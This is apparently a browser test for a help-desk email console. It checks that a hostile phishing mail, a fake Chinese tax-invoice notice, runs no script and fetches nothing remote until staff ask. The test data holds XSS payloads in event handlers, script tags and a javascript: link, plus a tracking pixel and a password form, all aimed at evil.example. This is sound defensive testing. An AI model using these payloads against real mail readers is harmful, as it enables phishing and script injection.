"""A hostile mail, looked at by staff: nothing of it runs, and nothing leaves the browser until somebody asks."""

from datetime import UTC, datetime
from email.message import EmailMessage

import pytest
from playwright.sync_api import Page, Route, expect

from channels.email.models import Direction, MailRecord
from kit.access.identity import Role
from kit.i18n import Locale
from tests.browser.axe import prepare, severe_violations
from tests.browser.channel_story import ChannelStory
from tests.browser.conftest import Window
from tests.browser.desk import Console
from tests.browser.live import Account, LiveProduct
from tests.browser.pictures import DESKTOP, PHONE, Album
from tests.channels.console.test_mail import PNG

pytestmark = pytest.mark.browser

#: Each language is looked at in one of the two grounds: colours are the same in both languages.
DARK: dict[Locale, bool] = {"zh": False, "en": True}
HOSTILE = """
<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<link rel="stylesheet" href="https://evil.example/style.css"><style>@import "https://evil.example/import.css";
body { background: url(https://evil.example/body.png) }</style>
<script src="https://evil.example/x.js"></script><script>document.title = "taken"; parent.taken = true</script></head>
<body onload="parent.taken = true" background="https://evil.example/background.png">
<p style="color:#b42318; position:fixed; background:url(https://evil.example/p.png)">您的发票已经作废，请立即登录核对：</p>
<p><a href="https://evil.example/login">www.tax.example</a></p>
<table border="1" bgcolor="#fff4d6"><tr><td>购买方</td><td>杭州云杉信息技术有限公司</td></tr></table>
<img src="cid:seal@1" alt="印章" width="60" height="60"><img src="https://evil.example/banner.png" alt="横幅">
<img src="https://evil.example/track.gif" width="1" height="1"><img src=x onerror="parent.taken = true">
<img srcset="https://evil.example/2x.png 2x"><picture><source srcset="https://evil.example/s.png"></picture>
<svg onload="parent.taken = true"><image href="https://evil.example/svg.png"/></svg>
<video poster="https://evil.example/poster.png" src="https://evil.example/v.mp4" autoplay></video>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>
<form action="https://evil.example/form"><input name="password" autofocus onfocus="parent.taken = true"></form>
<a href="javascript:parent.taken = true">核对</a></body></html>
"""


def hostile() -> bytes:
    mail = EmailMessage()
    mail["From"] = "税务通知 <notice@tax.example>"
    mail["To"] = "help@desk.example"
    mail["Subject"] = "您的发票已经作废"
    mail["Date"] = datetime(2026, 1, 5, 8, 30, tzinfo=UTC)
    mail.set_content(
        "您的发票已经作废，请立即登录核对。\n\n在 2026年1月4日，应票 <help@desk.example> 写道：\n> 您好。\n"
    )
    mail.add_alternative(HOSTILE, subtype="html")
    part = mail.get_payload()[1]  # type: ignore[index]  # two alternatives are a list.
    part.add_related(PNG, "image", "png", cid="<seal@1>")  # type: ignore[union-attr]  # of messages.
    mail.add_attachment(b"%PDF-1.7", maintype="application", subtype="pdf", filename="处理决定.pdf")
    return bytes(mail)


class MailStory(ChannelStory):
    """Mails in the log of the running product."""

    def arrived(self, raw: bytes, key: str) -> int:
        """A mail nobody vouches for; returns its id."""

        async def arrive() -> int:
            record = MailRecord(
                account="help@desk.example",
                direction=Direction.IN.value,
                thread="email:help@desk.example:notice@tax.example",
                platform_id=key,
                message_id=key,
                references=[],
                subject="您的发票已经作废",
                sender="notice@tax.example",
                sender_name="税务通知",
                digest="",
                automatic="precedence: bulk",
                proven=False,
                verdict={"spf": "softfail", "dkim": "", "dmarc": "fail"},
                original=await self.ground.files.keep(raw),
                size=len(raw),
                at=self.ground.clock.now(),
            )
            async with self.ground.db.transaction() as session:
                session.add(record)
                await session.flush()
                return record.id

        return self._do(arrive())


@pytest.fixture
def supervisor(window: Window, live: LiveProduct, locale: Locale) -> Console:
    page = window(locale, DESKTOP, dark=DARK[locale])
    page.emulate_media(reduced_motion="reduce")
    prepare(page.context)
    console = Console(page, locale, live.url)
    account = Account(f"lead{locale}", "吴敏" if locale == "zh" else "Min Wu", Role.SUPERVISOR)
    console.sign_in(ChannelStory(live).hired(account, locale))
    return console


def fits(page: Page) -> bool:
    own = page.viewport_size
    page.set_viewport_size(PHONE)
    width: int = page.evaluate("document.documentElement.scrollWidth")
    page.set_viewport_size(own or DESKTOP)
    return width <= PHONE["width"]


def test_a_hostile_mail_does_nothing(supervisor: Console, live: LiveProduct, locale: Locale, album: Album) -> None:
    page, text = supervisor.page, supervisor.text
    asked: list[str] = []

    def answer(route: Route) -> None:
        asked.append(route.request.url)
        route.fulfill(body=PNG, content_type="image/png")

    page.context.route(lambda url: not url.startswith(live.url) and not url.startswith("data:"), answer)
    mail = MailStory(live).arrived(hostile(), f"hostile-{locale}")
    page.goto(f"{live.url}/console/mail/{mail}")
    expect(page.get_by_text(text("channels.mail.unproven.help"), exact=True)).to_be_visible()
    frame = page.frame_locator("iframe")
    expect(frame.get_by_text("杭州云杉信息技术有限公司")).to_be_visible()
    expect(frame.get_by_text(text("channels.mail.leads_elsewhere", host="evil.example"))).to_be_visible()
    # The mail's own picture is there, though the frame may fetch nothing.
    assert frame.get_by_alt_text("印章").evaluate("(image) => image.naturalWidth") == 1
    page.wait_for_load_state("networkidle")
    assert page.evaluate("window.taken") is None
    assert page.title() != "taken"
    assert asked == []
    album.take(page, "hostile", whole=True)
    # Frames are left out of pictures of the whole page.
    page.locator("iframe").scroll_into_view_if_needed()
    album.take(page, "frame")
    found = severe_violations(page, "hostile")
    assert fits(page)

    page.get_by_role("link", name=text("channels.mail.show_remote")).click()
    expect(frame.get_by_alt_text("横幅")).to_be_visible()
    page.wait_for_load_state("networkidle")
    assert sorted(asked) == ["https://evil.example/banner.png", "https://evil.example/track.gif"]
    assert page.evaluate("window.taken") is None
    album.take(page, "pictures", whole=True)

    page.get_by_role("button", name=text("channels.mail.reveal")).click()
    expect(page.get_by_text("notice@tax.example").first).to_be_visible()
    page.get_by_role("link", name=text("channels.mail.back")).click()
    expect(page.get_by_role("heading", level=1, name=text("channels.mail.title"))).to_be_visible()
    album.take(page, "log", whole=True)
    found += severe_violations(page, "log")
    assert fits(page)
    page.get_by_role("link", name=text("channels.mail.shown.reports")).click()
    expect(page.get_by_text(text("channels.mail.empty_filtered"))).to_be_visible()
    assert not found, "\n".join(found)
